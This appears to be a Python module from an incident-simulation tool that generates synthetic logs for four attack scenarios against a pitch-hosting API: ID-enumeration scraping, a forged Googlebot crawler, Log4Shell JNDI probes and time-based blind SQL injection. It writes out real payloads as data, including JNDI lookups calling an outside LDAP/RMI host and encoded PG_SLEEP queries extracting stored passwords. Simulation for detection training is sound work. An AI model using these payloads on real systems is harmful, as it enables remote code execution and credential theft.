"""Machines that read everything, and machines that write what they should not."""

from .... import effects as fx
from ....builder import Builder, Crowd, Entry, Slow
from ....platform import CRAWLERS
from ....scenario import Told
from ._parts import ATTACKS, at_hour, homes, hourly_job, retired_check, stranger, told, yellow_index


def by_number(b: Builder) -> Told:
    """From hundreds of homes, each with a few requests, somebody fetches one pitch after another by its number."""
    at_hour(b, 4.8)
    yellow_index(b)
    span = b.until_mended(b.onset_ms)
    webkit = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
    fx.crowd(
        b,
        Crowd(
            key="by number",
            route="/api/pitches",
            per_min=b.between("rate", 75, 100),
            span=span,
            addresses=homes(b, "by number", 650),
            agents=(f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {webkit}",),
            urls=("/api/pitches/{id}", "/api/pitches/{id}?include=team,budget"),
            outcomes={200: 0.74, 404: 0.26},
            logged=0.5,
            took_ms=80.0,
        ),
    )
    told(
        b,
        "by number views",
        "pitch",
        "views",
        2.0,
        span,
        "pitch {id} viewed without session or referrer, {n} neighbours in the last minute",
        level="info",
    )
    fx.database(b, span, queryCount=(1.5, 0.0), avgQueryTime=(1.1, 0.0))
    return Told(services=("pitch",), routes=("/api/pitches",), severity="P3")


def not_google(b: Builder) -> Told:
    """Somebody calls himself Googlebot, comes from a rented rack, heeds no robots.txt and takes pictures and texts."""
    at_hour(b, 15.9)
    retired_check(b)
    span = b.until_mended(b.onset_ms, ramp_s=300.0)
    who = fx.strangers(b, "not google", 28, "45.148.10.")
    for path, urls, per_min in (
        ("/api/media/thumbnail", ("/api/media/thumbnail?id={hex}&w=1920", "/api/media/thumbnail?id={hex}"), 70.0),
        ("/api/browse", ("/api/browse?page={id}", "/api/browse?genre=thriller&page={n}"), 38.0),
    ):
        fx.crowd(
            b,
            Crowd(
                key=f"not google {path}",
                route=path,
                per_min=per_min,
                span=span,
                addresses=who,
                agents=(CRAWLERS[0][0],),
                urls=urls,
                outcomes={200: 0.97, 404: 0.03},
                logged=0.5,
            ),
        )
    told(
        b,
        "not google names",
        "security",
        "bots",
        1.2,
        span,
        "user agent Googlebot, reverse name vps{id}.rack-rent.example: not verified (45.148.10.0/24)",
        "robots.txt disallows /api/, fetched anyway by 45.148.10.{n}",
        level="info",
    )
    return Told(services=("upload", "browse"), routes=("/api/media/thumbnail", "/api/browse"), severity="P3")


def jndi(b: Builder) -> Told:
    """Wherever something might be logged, in the agent's name and in queries, stands a look-up for a far host."""
    at_hour(b, 23.0)
    hourly_job(b)
    span = b.until_mended(b.onset_ms, ramp_s=20.0)
    who = fx.strangers(b, "jndi", 7)
    agents = (
        "${jndi:ldap://45.83.193.150:1389/Exploit}",
        "${${lower:j}ndi:${lower:l}dap://45.83.193.150:1389/o}",
        "${jndi:dns://x9f1.interact.example/ua}",
    )
    routes = {
        "/api/pitches/search": (
            "/api/pitches/search?q=$%7Bjndi:ldap://45.83.193.150:1389/{hex}%7D",
            "/api/pitches/search?q=$%7B$%7B::-j%7Dndi:rmi://45.83.193.150:1099/{hex}%7D",
        ),
        "/api/browse": ("/api/browse?genre=$%7Bjndi:dns://{hex}.interact.example/g%7D",),
        "/login": ("/login?next=$%7Bjndi:$%7Benv:NaN:-l%7Ddap://45.83.193.150:1389/{hex}%7D",),
    }
    for path, urls in routes.items():
        fx.crowd(
            b,
            Crowd(
                key=f"jndi {path}",
                route=path,
                per_min=b.between("rate", 30, 45) / len(routes),
                span=span,
                addresses=who,
                agents=agents,
                urls=urls,
                outcomes={400: 0.35, 200: 0.63, 500: 0.02},
                logged=0.9,
                blocked=0.35,
                rule="managed-100514",
            ),
        )
    fx.security_events(b, "suspicious_login_attempt", span, 2.0)
    fx.security_events(b, "xss_attempt", span, 0.6)
    return Told(services=("api-gateway", "security"), routes=tuple(routes), severity="P2")


def slow_questions(b: Builder) -> Told:
    """Somebody asks the database by waiting: a guess that is right takes five seconds, one that is wrong none."""
    at_hour(b, 2.4)
    span = b.until_mended(b.onset_ms, ramp_s=60.0)
    path = "/api/pitches/search"
    who = fx.strangers(b, "slow questions", 2)
    agent = "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_6_2; en-US) AppleWebKit/533.4 Chrome/5.0.375.38 Safari/533.4"
    asked = path + "?q=x%27%29%20AND%207631%3D%28CASE%20WHEN%20%28ASCII%28SUBSTRING%28%28SELECT%20passwd%20FROM%20"
    fx.crowd(
        b,
        Crowd(
            key="slow questions right",
            route=path,
            per_min=11.0,
            span=span,
            addresses=who,
            agents=(agent,),
            urls=(asked + "users%20LIMIT%201%29%2C{n}%29%29%3E{n}%29%20THEN%20PG_SLEEP%285%29%20END%29--%20",),
            outcomes={200: 1.0},
            logged=0.95,
            took_ms=5060.0,
        ),
    )
    fx.crowd(
        b,
        Crowd(
            key="slow questions wrong",
            route=path,
            per_min=b.between("rate", 20, 30),
            span=span,
            addresses=who,
            agents=(agent,),
            urls=(
                asked + "users%20LIMIT%201%29%2C{n}%29%29%3E{n}%29%20THEN%20PG_SLEEP%285%29%20END%29--%20",
                path + "?q=x%27%29%3BSELECT%20PG_SLEEP%285%29--",
                path + "?q=x%27%29%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%28%27qbzvq%27%29--%20",
            ),
            outcomes={200: 0.72, 500: 0.28},
            logged=0.95,
            took_ms=90.0,
            entries=(
                Entry(
                    service="database",
                    level="ERROR",
                    component="postgres",
                    request=False,
                    share=0.25,
                    texts=(
                        "ERROR:  unterminated quoted string at or near \"'x'\" at character 212",
                        "ERROR:  each UNION query must have the same number of columns at character 240",
                    ),
                ),
            ),
        ),
    )
    fx.security_events(b, "sql_injection_attempt", span, 3.0)
    fx.slow(b, Slow(key="slow questions", hits={path: 0.1}, span=span, add_ms=180.0))
    fx.database(b, span, p99QueryTime=(1.5, 4100.0), slowQueries=(1.0, 9.0))
    return Told(services=("api-gateway", "database"), routes=(path,), severity="P1")


SCENARIOS = (
    stranger(
        "via_by_number",
        "One pitch after another, from homes",
        "scraping",
        by_number,
        ATTACKS,
        onset_min=(40, 80),
        beside=("unrelated_deployment",),
    ),
    stranger(
        "via_not_google",
        "Not Google",
        "scraping",
        not_google,
        ATTACKS,
        onset_min=(30, 50),
        beside=("crawler_visit",),
    ),
    stranger(
        "via_jndi",
        "Look-ups in names and queries",
        "injection_attack",
        jndi,
        ATTACKS,
        onset_min=(14, 28),
        beside=("slow_sidekick",),
    ),
    stranger(
        "via_slow_questions",
        "Questions that are answered by waiting",
        "injection_attack",
        slow_questions,
        ATTACKS,
        onset_min=(22, 38),
        beside=("noisy_neighbour",),
    ),
)
